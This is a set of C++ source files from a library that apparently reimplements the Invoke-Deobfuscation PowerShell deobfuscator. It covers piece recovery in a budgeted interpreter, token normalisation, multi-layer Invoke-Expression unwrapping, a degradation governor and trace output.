        options_.fault->inject(FaultSite::MemoLookup);
      }
      ctx = pure ? pure_context_fingerprint() : context_fingerprint();
      if (const std::optional<std::string> hit =
              options_.memo->lookup(ctx, text)) {
        stats_.memo_hits++;
        piece_memo_hit_counter().add();
        return *hit;
      }
      stats_.memo_misses++;
    }
    std::string literal;
    // Observe stage latency on scope exit so throwing evaluations (the
    // common case for hostile pieces — every failed vm run used to report
    // self_seconds=0) still charge their elapsed nanoseconds to the stage.
    struct StageTimer {
      telemetry::Histogram* hist = nullptr;
      std::uint64_t t0 = 0;
      void start(telemetry::Histogram& h) {
        hist = &h;
        t0 = telemetry::now_ns();
      }
      void finish() {
        if (hist != nullptr) hist->observe_ns(telemetry::now_ns() - t0);
        hist = nullptr;
      }
      ~StageTimer() { finish(); }
    };
    StageTimer timer;
    const bool timed = telemetry::enabled();
    try {
      Value result;
      if (pure) {
        stats_.pieces_folded++;
        fold_counter().add();
        if (timed) timer.start(fold_histogram());
        ps::Interpreter& interp = fold_interpreter();
        // A fresh step allowance per piece, as a fresh interpreter has.
        interp.reset_steps();
        result = ps::bytecode::run_chunk(*chunk, interp);
      } else if (chunk != nullptr) {
        stats_.bytecode_execs++;
        bytecode_exec_counter().add();
        if (timed) timer.start(vm_histogram());
        auto interp = make_interpreter();
        result = ps::bytecode::run_chunk(*chunk, *interp);
      } else {
        stats_.treewalk_fallbacks++;
        treewalk_fallback_counter().add();
        if (timed) timer.start(fallback_histogram());
        auto interp = make_interpreter();
        // Parse-once: a piece whose text is still the node's verbatim
        // source evaluates from the already-parsed subtree; only pieces
        // rewritten by child substitutions need a (cached) piece parse.
        result =
            cache_ != nullptr && node != nullptr && matches_source(*node, text)
                ? interp->evaluate(*node, src_)
                : interp->evaluate_script(text);
      }
      literal = value_to_literal(result);
    } catch (const ps::BudgetError&) {
      throw;  // deadline / allocation / cancellation abort the whole pass
    } catch (const FaultError&) {
      throw;  // injected faults must reach the governor
    } catch (const std::exception&) {
      record_piece_failure(classify_current_exception().first);
      literal.clear();  // blocked / unknown / limit / error: keep the piece
    }
    timer.finish();  // observe now; don't charge memo-store time below
    if (literal == text) literal.clear();  // no progress
    if (options_.memo != nullptr) options_.memo->store(ctx, text, literal);
    return literal;
  }

  /// Books a successful recovery ("" keeps the original text).
  std::string apply_recovered(std::string text, std::string literal) {
    if (literal.empty()) return text;
    stats_.pieces_recovered++;
    if (trace_ != nullptr) {
      trace_->emit({TraceEvent::Kind::PieceRecovered, 0, std::move(text),
                    literal, trace_->pass()});
    }
    return literal;
  }

  /// Expandable strings ("pre $url post") are not recoverable nodes, but
  /// with every referenced variable traced their value is known; evaluating
  /// them in the strict interpreter turns them into plain literals, which
  /// extends recovery to interpolation sites inside blocklisted pipelines.
  std::string handle_expandable(std::string text, const Ast& node) {
    if (conditional_depth_ > 0) return text;
    if (text.find('$') == std::string::npos) return text;
    std::string literal = execute_piece(text, &node);
    return apply_recovered(std::move(text), std::move(literal));
  }

  std::string try_recover(std::string text, const Ast& node) {
    if (text.size() > options_.max_piece_size) return text;
    if (is_trivial_literal(text)) return text;
    std::string literal = execute_piece(text, &node);
    return apply_recovered(std::move(text), std::move(literal));
  }
};

}  // namespace

std::size_t pure_memo_context(const RecoveryOptions& options) {
  // Must stay in lockstep with Reconstructor::kPureContext: pure-chunk memo
  // entries written before this helper existed carry the same fingerprints.
  constexpr std::size_t kPureContextSalt = 0x517cc1b727220a95ull;
  std::size_t h =
      14695981039346656037ull ^ kPureContextSalt ^ options.language_salt;
  const auto mix = [&h](std::string_view s) {
    for (unsigned char c : s) {
      h ^= c;
      h *= 1099511628211ull;
    }
    h ^= 0xffu;  // field separator
    h *= 1099511628211ull;
  };
  mix(std::to_string(options.max_steps_per_piece));
  mix(std::to_string(options.max_piece_size));
  for (const std::string& blocked : options.extra_blocklist) mix(blocked);
  return h | 1;  // nonzero: 0 is the "unset" sentinel
}

std::string recovery_pass(std::string_view script,
                          const ps::ParsedScript& parsed,
                          const RecoveryOptions& options, RecoveryStats* stats,
                          TraceSink* trace, ps::ParseCache* cache) {
  if (parsed == nullptr) return std::string(script);
  telemetry::PhaseSpan span(telemetry::Phase::Recovery);
  RecoveryStats local;
  Reconstructor rec(script, options, local, trace, cache, &parsed);
  std::string out = rec.run(*parsed);
  if (stats != nullptr) *stats = local;
  // An unchanged result is the (already parsed) input; anything else must
  // still reparse before it may replace the input.
  const bool ok = out == script || (cache != nullptr
                                        ? cache->is_valid(out)
                                        : ps::is_valid_syntax(out));
  if (!ok) return std::string(script);
  return out;
}

std::string recovery_pass(std::string_view script, const RecoveryOptions& options,
                          RecoveryStats* stats, TraceSink* trace) {
  const ps::ParsedScript root = ps::try_parse(script);
  if (root == nullptr) return std::string(script);
  return recovery_pass(script, root, options, stats, trace, nullptr);
}

}  // namespace ideobf
