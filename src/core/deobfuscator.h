#pragma once

/// \file deobfuscator.h
/// The public API of Invoke-Deobfuscation: AST-based and semantics-
/// preserving deobfuscation for PowerShell scripts (Chai et al., DSN 2022),
/// rebuilt as a C++ library on an in-repo PowerShell substrate.
///
/// Pipeline (paper Fig 2): token parsing -> variable tracing & recovery
/// based on AST -> multi-layer unwrapping (repeated to a fixed point) ->
/// renaming -> reformatting. Every phase is syntax-checked and rolled back
/// on error, so the output is always valid when the input was.

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "core/multilayer.h"
#include "core/recovery.h"
#include "core/rename.h"
#include "core/token_pass.h"
#include "psast/parse_cache.h"

namespace ideobf {

struct DeobfuscationOptions {
  bool token_pass = true;
  bool ast_recovery = true;
  bool multilayer = true;
  bool rename = true;
  bool reformat = true;
  /// Fixed-point iteration bound for multi-layer obfuscation.
  int max_layers = 8;
  /// Interpreter budget per recoverable piece.
  std::size_t max_steps_per_piece = 200000;
  /// Additional lowercase command names to refuse executing.
  std::vector<std::string> extra_blocklist;
  /// Extension beyond the paper (section V-C): trace user-defined decoder
  /// functions so function-wrapped recovery chains can be executed.
  bool trace_functions = false;
  /// Collect a structured transformation trace into the report.
  bool collect_trace = false;
  /// Parse-once pipeline: share one parse of every intermediate text across
  /// the per-step syntax checks, the phases' AST inputs, and the multilayer
  /// recursion. Disabling re-parses at every step (the pre-cache behavior);
  /// output and report are identical either way.
  bool parse_cache = true;
  /// Memoize recovered pieces per run (piece text + traced-variable context
  /// fingerprint -> recovered literal) so a piece repeated across
  /// occurrences, layers, or fixed-point passes executes once. Disabling
  /// re-executes every occurrence (the pre-memo behavior); output and
  /// report are identical either way.
  bool recovery_memo = true;
  /// Optional externally shared cache (e.g. one cache across a whole batch
  /// or several deobfuscator instances). When null and `parse_cache` is
  /// true, the deobfuscator creates a private one.
  std::shared_ptr<ps::ParseCache> shared_parse_cache;
};

struct DeobfuscationReport {
  TokenPassStats token;
  std::vector<TraceEvent> trace;  ///< filled when options.collect_trace
  RecoveryStats recovery;
  MultilayerStats multilayer;
  RenameStats rename;
  int passes = 0;  ///< full pipeline iterations until the fixed point
};

/// The deobfuscator. Const-callable from any number of threads and cheap to
/// copy; copies share the (thread-safe) parse cache.
class InvokeDeobfuscator {
 public:
  explicit InvokeDeobfuscator(DeobfuscationOptions options = {});

  /// Deobfuscates `script`. Invalid input is returned unchanged.
  [[nodiscard]] std::string deobfuscate(std::string_view script) const;
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report) const;

  [[nodiscard]] const DeobfuscationOptions& options() const { return options_; }

  /// The parse cache in use; null when options().parse_cache is false.
  [[nodiscard]] const std::shared_ptr<ps::ParseCache>& parse_cache() const {
    return cache_;
  }

 private:
  std::string deobfuscate_layers(std::string_view script,
                                 DeobfuscationReport& report, int depth,
                                 TraceSink* trace, RecoveryMemo* memo) const;
  DeobfuscationOptions options_;
  std::shared_ptr<ps::ParseCache> cache_;
};

}  // namespace ideobf
