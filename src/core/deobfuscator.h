#pragma once

/// \file deobfuscator.h
/// The public API of Invoke-Deobfuscation: AST-based and semantics-
/// preserving deobfuscation for PowerShell scripts (Chai et al., DSN 2022),
/// rebuilt as a C++ library on an in-repo PowerShell substrate.
///
/// Pipeline (paper Fig 2): token parsing -> variable tracing & recovery
/// based on AST -> multi-layer unwrapping (repeated to a fixed point) ->
/// renaming -> reformatting. Every phase is syntax-checked and rolled back
/// on error, so the output is always valid when the input was.

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "core/multilayer.h"
#include "core/recovery.h"
#include "core/rename.h"
#include "core/token_pass.h"
#include "psast/parse_cache.h"
#include "psvalue/budget.h"
#include "telemetry/telemetry.h"

namespace ideobf {

class FaultInjector;

/// The execution governor's envelope for one deobfuscate() call. The
/// recovery phase executes attacker-controlled pieces, so hostile inputs
/// (deliberate stalls, allocation bombs) are the normal input distribution;
/// the governor bounds each call and — instead of failing outright — walks
/// a degradation ladder of progressively safer configurations:
///
///   rung 0: full pipeline, full deadline
///   rung 1: tightened recovery (fewer layers, far smaller per-piece step
///           and size budgets), deadline/2
///   rung 2: static passes only (token pass + rename + reformat; nothing is
///           executed), deadline/4
///   rung 3: passthrough (input returned unchanged)
///
/// Worst case a governed call spends ~1.75x its deadline before serving
/// passthrough. Every abort is classified into a ps::FailureKind.
struct GovernorOptions {
  /// Wall-clock deadline per call at full strength; 0 disables the deadline.
  double deadline_seconds = 0.0;
  /// Cumulative interpreter allocation budget per attempt; 0 disables.
  std::size_t memory_budget_bytes = 0;
  /// Walk the ladder on failure. When false a failed attempt immediately
  /// serves passthrough (rung 3).
  bool degrade = true;
  /// External cancellation (checked at every budget checkpoint). Inert by
  /// default; a cancelled call serves passthrough without retries.
  ps::CancellationToken cancel{};

  /// Whether any envelope is configured; inactive governors take the exact
  /// ungoverned code path (byte-identical output, no budget checks).
  [[nodiscard]] bool active() const {
    return deadline_seconds > 0.0 || memory_budget_bytes > 0 || cancel.valid();
  }
};

struct DeobfuscationOptions {
  bool token_pass = true;
  bool ast_recovery = true;
  bool multilayer = true;
  bool rename = true;
  bool reformat = true;
  /// Fixed-point iteration bound for multi-layer obfuscation.
  int max_layers = 8;
  /// Interpreter budget per recoverable piece.
  std::size_t max_steps_per_piece = 200000;
  /// Largest piece text the recovery phase will execute.
  std::size_t max_piece_size = 4u << 20;
  /// Additional lowercase command names to refuse executing.
  std::vector<std::string> extra_blocklist;
  /// Extension beyond the paper (section V-C): trace user-defined decoder
  /// functions so function-wrapped recovery chains can be executed.
  bool trace_functions = false;
  /// Collect a structured transformation trace into the report.
  bool collect_trace = false;
  /// Trace-event collection cap per run (see TraceSink); overflow sets
  /// DeobfuscationReport::trace_truncated instead of growing unboundedly.
  std::size_t max_trace_events = TraceSink::kDefaultMaxEvents;
  /// Parse-once pipeline: share one parse of every intermediate text across
  /// the per-step syntax checks, the phases' AST inputs, and the multilayer
  /// recursion. Disabling re-parses at every step (the pre-cache behavior);
  /// output and report are identical either way.
  bool parse_cache = true;
  /// Memoize recovered pieces per run (piece text + traced-variable context
  /// fingerprint -> recovered literal) so a piece repeated across
  /// occurrences, layers, or fixed-point passes executes once. Disabling
  /// re-executes every occurrence (the pre-memo behavior); output and
  /// report are identical either way.
  bool recovery_memo = true;
  /// Optional externally shared cache (e.g. one cache across a whole batch
  /// or several deobfuscator instances). When null and `parse_cache` is
  /// true, the deobfuscator creates a private one.
  std::shared_ptr<ps::ParseCache> shared_parse_cache;
  /// Default governor for deobfuscate() calls (per-call overload wins).
  GovernorOptions governor{};
  /// Optional fault injector (compiled in always, enabled by setting this).
  /// Sites: Parse, PieceExecution, MemoLookup, MultilayerDecode. Non-owning;
  /// must outlive the deobfuscator. With no armed fault the output is
  /// byte-identical to running without an injector.
  FaultInjector* fault_injector = nullptr;
};

struct DeobfuscationReport {
  TokenPassStats token;
  std::vector<TraceEvent> trace;  ///< filled when options.collect_trace
  bool trace_truncated = false;   ///< trace hit options.max_trace_events
  std::size_t trace_dropped = 0;  ///< events discarded past the cap
  RecoveryStats recovery;
  MultilayerStats multilayer;
  RenameStats rename;
  /// Per-phase time breakdown of this call (counts + self/total wall time).
  /// All-zero unless telemetry was enabled (telemetry::Telemetry::enable()).
  telemetry::PipelineProfile profile;
  int passes = 0;  ///< full pipeline iterations until the fixed point

  /// Failure classification for the call: the kind that aborted the
  /// full-strength attempt (when a lower rung served), or the most severe
  /// per-piece failure, or ParseError for invalid input, or None.
  ps::FailureKind failure = ps::FailureKind::None;
  std::string failure_detail;  ///< human-readable message for `failure`
  /// Which ladder rung produced the served output (0 = full pipeline,
  /// 3 = passthrough). Always 0 for ungoverned calls.
  int degradation_rung = 0;
  int attempts = 1;  ///< pipeline attempts made (1 + retries)
};

/// The deobfuscator. Const-callable from any number of threads and cheap to
/// copy; copies share the (thread-safe) parse cache.
class InvokeDeobfuscator {
 public:
  explicit InvokeDeobfuscator(DeobfuscationOptions options = {});

  /// Deobfuscates `script`. Invalid input is returned unchanged. Governed
  /// by options().governor; never throws for script-caused failures — a
  /// busted budget degrades down the ladder to passthrough instead.
  [[nodiscard]] std::string deobfuscate(std::string_view script) const;
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report) const;
  /// Per-call governor override (how deobfuscate_batch gives every item its
  /// own deadline and cancellation token).
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report,
                                        const GovernorOptions& governor) const;
  /// As above, additionally sharing an externally owned piece-execution
  /// memo (how deobfuscate_batch reuses recovered pieces across the scripts
  /// served by one pool slot — memo keys fingerprint everything relevant,
  /// so cross-script sharing is sound). The memo must only ever be touched
  /// by one thread at a time; null falls back to a per-run memo. Ignored
  /// when options().recovery_memo is false.
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report,
                                        const GovernorOptions& governor,
                                        RecoveryMemo* shared_memo) const;

  [[nodiscard]] const DeobfuscationOptions& options() const { return options_; }

  /// The parse cache in use; null when options().parse_cache is false.
  [[nodiscard]] const std::shared_ptr<ps::ParseCache>& parse_cache() const {
    return cache_;
  }

 private:
  /// The governed ladder walk behind deobfuscate(); the public wrapper adds
  /// the telemetry envelope (Pipeline span + profile binding) around it.
  std::string deobfuscate_impl(std::string_view script,
                               DeobfuscationReport& report,
                               const GovernorOptions& governor,
                               RecoveryMemo* shared_memo) const;
  /// One full pipeline run under `opts`, checkpointing `budget` (may be
  /// null) between phases. Throws on budget/fault aborts. `shared_memo`
  /// substitutes for the run-local piece memo when non-null.
  std::string run_pipeline(std::string_view script, DeobfuscationReport& report,
                           const DeobfuscationOptions& opts,
                           ps::Budget* budget,
                           RecoveryMemo* shared_memo) const;
  std::string deobfuscate_layers(std::string_view script,
                                 DeobfuscationReport& report, int depth,
                                 TraceSink* trace, RecoveryMemo* memo,
                                 const DeobfuscationOptions& opts,
                                 ps::Budget* budget) const;
  /// The options for one degradation-ladder rung (see GovernorOptions).
  [[nodiscard]] DeobfuscationOptions rung_options(int rung) const;
  DeobfuscationOptions options_;
  std::shared_ptr<ps::ParseCache> cache_;
};

}  // namespace ideobf
