#pragma once

/// \file deobfuscator.h
/// The engine of Invoke-Deobfuscation: AST-based and semantics-preserving
/// deobfuscation for PowerShell scripts (Chai et al., DSN 2022), rebuilt as
/// a C++ library on an in-repo PowerShell substrate — and generalized: the
/// pipeline is language-agnostic, programming against the LanguageFrontend
/// boundary (src/frontends/frontend.h, DESIGN.md §12), with PowerShell as
/// the first registered front-end and a minimal JavaScript front-end
/// alongside it.
///
/// Pipeline (paper Fig 2): token parsing -> variable tracing & recovery
/// based on AST -> multi-layer unwrapping (repeated to a fixed point) ->
/// renaming -> reformatting. Every phase is syntax-checked and rolled back
/// on error, so the output is always valid when the input was. The loop,
/// the governor ladder, the budget checkpoints, and the stat/trace
/// collection live here; everything that knows a concrete syntax lives in
/// the front-end.
///
/// The stable entry point is `ideobf::Engine` (include/ideobf/api.h);
/// `InvokeDeobfuscator` is the engine behind it, configured by the unified
/// `ideobf::Options` and producing the public `DeobfuscationReport`.

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "frontends/frontend.h"
#include "ideobf/options.h"
#include "psast/parse_cache.h"
#include "psvalue/budget.h"
#include "telemetry/telemetry.h"

namespace ideobf {

/// The deobfuscator. Const-callable from any number of threads and cheap to
/// copy; copies share the (thread-safe) parse cache, recovery memo, and
/// front-end instances.
class InvokeDeobfuscator {
 public:
  explicit InvokeDeobfuscator(Options options = {});

  /// Deobfuscates `script`. Invalid input is returned unchanged. Governed
  /// by options().limits; never throws for script-caused failures — a
  /// busted budget degrades down the ladder to passthrough instead.
  [[nodiscard]] std::string deobfuscate(std::string_view script) const;
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report) const;
  /// Per-call envelope override (how deobfuscate_batch and the server give
  /// every item its own deadline and cancellation token). Only the
  /// *envelope* fields of `limits` apply per call — deadline_seconds,
  /// memory_budget_bytes, degrade, cancel; the per-piece caps (max_layers,
  /// max_steps_per_piece, max_piece_size) always come from the configured
  /// options(), so two requests against one engine run the same pipeline
  /// under different deadlines.
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report,
                                        const Options::Limits& limits) const;
  /// As above, additionally substituting an externally owned
  /// piece-execution memo for the engine's own. Memo keys fingerprint
  /// everything relevant to a piece's evaluation — the front-end's language
  /// salt included — so cross-script sharing is sound, and RecoveryMemo is
  /// thread-safe, so one memo may serve concurrent calls. Null uses the
  /// engine-global memo (when options().recovery.share_memo) or a per-run
  /// one. Ignored when options().recovery.memo is false.
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report,
                                        const Options::Limits& limits,
                                        RecoveryMemo* shared_memo) const;
  /// Language-dispatching entry point: runs the pipeline under the named
  /// front-end. `language` is a registered front-end name, "" (the default
  /// language) or "auto" (sniffed per source). An unknown language serves
  /// classified passthrough (FailureKind::Internal, rung 3) — the totality
  /// contract holds for misrouted requests too.
  [[nodiscard]] std::string deobfuscate(std::string_view script,
                                        DeobfuscationReport& report,
                                        const Options::Limits& limits,
                                        RecoveryMemo* shared_memo,
                                        std::string_view language) const;

  [[nodiscard]] const Options& options() const { return options_; }

  /// The parse cache in use; null when options().parse_cache is false.
  /// PowerShell-substrate infrastructure, shared with the PS front-end.
  [[nodiscard]] const std::shared_ptr<ps::ParseCache>& parse_cache() const {
    return cache_;
  }

  /// The front-end registered under `language` ("" = default), or null.
  [[nodiscard]] const LanguageFrontend* frontend(
      std::string_view language) const;

  /// Resolves a request's language field to a concrete front-end name:
  /// "" -> the default language, "auto" -> the best sniff score over this
  /// engine's front-ends (ties to the default), anything else verbatim
  /// (even when unregistered — the caller sees the lookup fail). The
  /// returned view is static or owned by this engine's front-ends.
  [[nodiscard]] std::string_view resolve_language(
      std::string_view language, std::string_view source) const;

 private:
  /// The governed ladder walk behind deobfuscate(); the public wrapper adds
  /// the telemetry envelope (Pipeline span + profile binding) and the
  /// front-end dispatch around it.
  std::string deobfuscate_impl(std::string_view script,
                               DeobfuscationReport& report,
                               const Options::Limits& limits,
                               RecoveryMemo* shared_memo,
                               const LanguageFrontend& frontend) const;
  /// One full pipeline run under `opts`, checkpointing `budget` (may be
  /// null) between phases. Throws on budget/fault aborts. `shared_memo`
  /// substitutes for the run-local piece memo when non-null.
  std::string run_pipeline(std::string_view script, DeobfuscationReport& report,
                           const Options& opts, ps::Budget* budget,
                           RecoveryMemo* shared_memo,
                           const LanguageFrontend& frontend) const;
  std::string deobfuscate_layers(std::string_view script,
                                 DeobfuscationReport& report, int depth,
                                 TraceSink* trace, RecoveryMemo* memo,
                                 const Options& opts, ps::Budget* budget,
                                 const LanguageFrontend& frontend) const;
  /// The options for one degradation-ladder rung (see Options::Limits).
  [[nodiscard]] Options rung_options(int rung) const;
  Options options_;
  std::shared_ptr<ps::ParseCache> cache_;
  /// Engine-global piece memo; null unless options_.recovery.memo &&
  /// options_.recovery.share_memo. Shared by copies of the engine — and,
  /// soundly, by every front-end: each salts its memo contexts.
  std::shared_ptr<RecoveryMemo> memo_;
  /// One instance per registered front-end, registry order (default
  /// language first). Const-shared: front-ends are pure policy.
  std::vector<std::shared_ptr<const LanguageFrontend>> frontends_;
};

}  // namespace ideobf
