#include "core/trace.h"

#include <sstream>

namespace ideobf {

std::string_view to_string(TraceEvent::Kind kind) {
  switch (kind) {
    case TraceEvent::Kind::TokenNormalized: return "token";
    case TraceEvent::Kind::PieceRecovered: return "recovered";
    case TraceEvent::Kind::VariableTraced: return "traced";
    case TraceEvent::Kind::VariableSubstituted: return "substituted";
    case TraceEvent::Kind::LayerUnwrapped: return "unwrapped";
    case TraceEvent::Kind::Renamed: return "renamed";
  }
  return "?";
}

namespace {
std::string clip(std::string_view s, std::size_t max_len) {
  std::string out;
  for (char c : s) {
    if (out.size() >= max_len) {
      out += "...";
      break;
    }
    if (c == '\n') out += "\\n";
    else out.push_back(c);
  }
  return out;
}
}  // namespace

std::string render_trace(const std::vector<TraceEvent>& trace,
                         std::size_t max_payload, std::size_t dropped) {
  std::ostringstream out;
  for (const TraceEvent& e : trace) {
    out << "[pass " << e.pass << "] " << to_string(e.kind) << " @" << e.offset
        << ": " << clip(e.before, max_payload) << "  ->  "
        << clip(e.after, max_payload) << "\n";
  }
  if (dropped != 0) {
    out << "[trace truncated: " << dropped << " further event"
        << (dropped == 1 ? "" : "s") << " dropped]\n";
  }
  return out.str();
}

}  // namespace ideobf
