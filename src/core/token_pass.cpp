#include "core/token_pass.h"

#include "analysis/randomness.h"

#include <cctype>

#include "pslang/alias_table.h"
#include "pslang/lexer.h"

namespace ideobf {

using ps::AliasTable;
using ps::Token;
using ps::TokenType;


std::string canonical_command_name(std::string_view name) {
  const auto& table = AliasTable::standard();
  if (auto full = table.resolve(name)) return *full;
  if (table.is_known_cmdlet(name)) {
    // Normalize casing to the canonical Verb-Noun form where known.
    if (auto alias = table.alias_for(name)) {
      if (auto full = table.resolve(*alias)) return *full;
    }
    // Known via the extra list. Verb-Noun cmdlets get Pascal casing; plain
    // executables (powershell, cmd, mkdir) are conventionally lowercase.
    std::string out = ps::to_lower(name);
    if (out.find('-') == std::string::npos) return out;
    bool cap = true;
    for (char& c : out) {
      if (cap && std::isalpha(static_cast<unsigned char>(c))) {
        c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        cap = false;
      }
      if (c == '-') cap = true;
    }
    return out;
  }
  if (has_random_case(name)) return ps::to_lower(name);
  return std::string(name);
}

std::string token_pass(std::string_view script, TokenPassStats* stats,
                       TraceSink* trace) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  TokenPassStats local;
  std::string out(script);

  // Reverse order keeps earlier token extents valid after replacement
  // (paper section III-A).
  for (auto it = tokens.rbegin(); it != tokens.rend(); ++it) {
    const Token& t = *it;
    std::string replacement;
    bool replace = false;

    const bool had_ticks =
        t.type != TokenType::String && t.text.find('`') != std::string::npos &&
        t.type != TokenType::LineContinuation;

    switch (t.type) {
      case TokenType::Command: {
        std::string fixed = canonical_command_name(t.content);
        if (fixed != t.text) {
          replacement = fixed;
          replace = true;
          if (had_ticks) local.ticks_removed++;
          if (AliasTable::standard().resolve(t.content).has_value() &&
              !ps::iequals(fixed, t.content)) {
            local.aliases_expanded++;
          } else if (!ps::iequals(fixed, t.text) || has_random_case(t.text)) {
            local.case_normalized++;
          }
        }
        break;
      }
      case TokenType::Keyword: {
        if (t.content != t.text) {
          replacement = t.content;  // keywords normalize to lowercase
          replace = true;
          if (had_ticks) local.ticks_removed++;
          else local.case_normalized++;
        }
        break;
      }
      case TokenType::Member:
      case TokenType::CommandArgument: {
        std::string fixed(t.content);
        // Only identifier-like words carry random-case obfuscation; data
        // arguments (Base64, numbers, URLs) must keep their exact casing.
        bool word_like = !fixed.empty();
        for (char c : fixed) {
          if (!std::isalpha(static_cast<unsigned char>(c)) && c != '.' &&
              c != '-' && c != '_' && c != ':' && c != '\\') {
            word_like = false;
            break;
          }
        }
        if (word_like && has_random_case(fixed)) {
          fixed = ps::to_lower(fixed);
          local.case_normalized++;
          replace = true;
        }
        if (had_ticks) {
          local.ticks_removed++;
          replace = true;
        }
        if (replace) replacement = fixed;
        break;
      }
      case TokenType::CommandParameter: {
        std::string fixed(t.content);
        if (has_random_case(fixed.substr(1))) {
          fixed = ps::to_lower(fixed);
          local.case_normalized++;
          replace = true;
        }
        if (had_ticks) {
          local.ticks_removed++;
          replace = true;
        }
        if (replace) replacement = fixed;
        break;
      }
      case TokenType::Type: {
        // Type literal text includes brackets; content does not.
        std::string inner(t.content);
        bool changed = false;
        if (has_random_case(inner)) {
          inner = ps::to_lower(inner);
          local.case_normalized++;
          changed = true;
        }
        if (had_ticks) {
          local.ticks_removed++;
          changed = true;
        }
        if (changed) {
          replacement = "[" + inner + "]";
          replace = true;
        }
        break;
      }
      case TokenType::Operator: {
        // Named operators (-SPLit, -jOiN) normalize to lowercase; content
        // already holds the canonical lowercase spelling.
        if (t.text.size() > 1 && t.text[0] == '-' && t.content != t.text) {
          replacement = t.content;
          replace = true;
          if (had_ticks) local.ticks_removed++;
          else local.case_normalized++;
        }
        break;
      }
      case TokenType::Variable: {
        if (had_ticks) {
          replacement = "$" + std::string(t.content);
          local.ticks_removed++;
          replace = true;
        }
        break;
      }
      case TokenType::LineContinuation: {
        // A backtick-newline is ticking across lines; joining the lines
        // restores the single-statement form.
        replacement = " ";
        local.ticks_removed++;
        replace = true;
        break;
      }
      default:
        break;
    }

    if (replace && replacement != t.text) {
      if (trace != nullptr) {
        trace->emit({TraceEvent::Kind::TokenNormalized, t.start,
                     std::string(t.text), replacement, trace->pass()});
      }
      out.replace(t.start, t.length, replacement);
    }
  }

  if (stats != nullptr) *stats = local;
  return out;
}

}  // namespace ideobf
