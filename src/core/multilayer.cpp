#include <algorithm>
#include "core/multilayer.h"

#include <vector>

#include "core/fault.h"
#include "pslang/alias_table.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"
#include "psinterp/encodings.h"
#include "psvalue/budget.h"
#include "telemetry/telemetry.h"

namespace ideobf {

using ps::Ast;
using ps::NodeKind;

namespace {

/// The constant string content of an expression node, unwrapping parens;
/// nullptr when the node is not a constant string.
const std::string* constant_string(const Ast* node) {
  while (node != nullptr) {
    if (node->kind() == NodeKind::StringConstantExpression) {
      return &static_cast<const ps::StringConstantExpressionAst*>(node)->value;
    }
    if (node->kind() == NodeKind::ParenExpression) {
      const auto* paren = static_cast<const ps::ParenExpressionAst*>(node);
      const Ast* inner = paren->pipeline.get();
      if (inner->kind() == NodeKind::Pipeline) {
        const auto* pipe = static_cast<const ps::PipelineAst*>(inner);
        if (pipe->elements.size() != 1) return nullptr;
        const Ast* el = pipe->elements.front().get();
        if (el->kind() != NodeKind::CommandExpression) return nullptr;
        node = static_cast<const ps::CommandExpressionAst*>(el)->expression.get();
        continue;
      }
      return nullptr;
    }
    return nullptr;
  }
  return nullptr;
}

/// True when `cmd` resolves to Invoke-Expression: `iex`, `Invoke-Expression`,
/// `&'iex'`, `.('iex')`, ... (paper section III-B4).
bool is_invoke_expression(const ps::CommandAst& cmd) {
  if (cmd.elements.empty()) return false;
  const std::string* name = constant_string(cmd.elements.front().get());
  if (name == nullptr) return false;
  if (ps::iequals(*name, "invoke-expression") || ps::iequals(*name, "iex")) {
    return true;
  }
  if (auto full = ps::AliasTable::standard().resolve(*name)) {
    return ps::iequals(*full, "Invoke-Expression");
  }
  return false;
}

bool is_powershell(const ps::CommandAst& cmd) {
  const std::string name = ps::to_lower(cmd.constant_name());
  std::string base = name;
  if (const auto slash = base.find_last_of("/\\"); slash != std::string::npos) {
    base = base.substr(slash + 1);
  }
  return base == "powershell" || base == "powershell.exe" || base == "pwsh";
}

struct Rewrite {
  std::size_t start;
  std::size_t end;
  std::string text;
};

/// Per-disguise-form unwrap counter ("iex-arg", "pipe-to-iex",
/// "encoded-command", "invoke-script"). `form` must be a string literal —
/// it is also the span detail kept by the trace recorder.
telemetry::Counter& unwrap_form_counter(std::string_view form) {
  auto& reg = telemetry::registry();
  if (form == "iex-arg") {
    static auto& c = reg.counter("ideobf_multilayer_unwrap_total", "form=\"iex-arg\"");
    return c;
  }
  if (form == "pipe-to-iex") {
    static auto& c = reg.counter("ideobf_multilayer_unwrap_total", "form=\"pipe-to-iex\"");
    return c;
  }
  if (form == "encoded-command") {
    static auto& c = reg.counter("ideobf_multilayer_unwrap_total", "form=\"encoded-command\"");
    return c;
  }
  static auto& c = reg.counter("ideobf_multilayer_unwrap_total", "form=\"invoke-script\"");
  return c;
}

}  // namespace

std::string unwrap_layers(
    std::string_view script,
    const std::function<std::string(std::string_view)>& deobfuscate_inner,
    MultilayerStats* stats, TraceSink* trace) {
  auto root = ps::try_parse(script);
  if (root == nullptr) return std::string(script);
  return unwrap_layers(script, *root, deobfuscate_inner, stats, trace, nullptr);
}

std::string unwrap_layers(
    std::string_view script, const ps::ScriptBlockAst& root,
    const std::function<std::string(std::string_view)>& deobfuscate_inner,
    MultilayerStats* stats, TraceSink* trace, ps::ParseCache* cache,
    ps::Budget* budget, FaultInjector* fault) {
  const auto valid = [cache](std::string_view text) {
    return cache != nullptr ? cache->is_valid(text)
                            : ps::is_valid_syntax(text);
  };

  std::vector<Rewrite> rewrites;

  // Governor/fault hooks for one extracted payload: checkpoint the budget,
  // charge the decoded bytes, and pass through the MultilayerDecode fault
  // site (which may throw, delay, or corrupt the payload). Returns true
  // when the (possibly corrupted) payload is still a valid script and the
  // rewrite was queued.
  const auto process = [&](std::string payload, const ps::PipelineAst& pipe,
                           std::string_view form) {
    // The inner pipeline run nests inside this span; self-time accounting
    // keeps the decode's own cost separate from the recursion's.
    telemetry::PhaseSpan span(telemetry::Phase::MultilayerDecode, form);
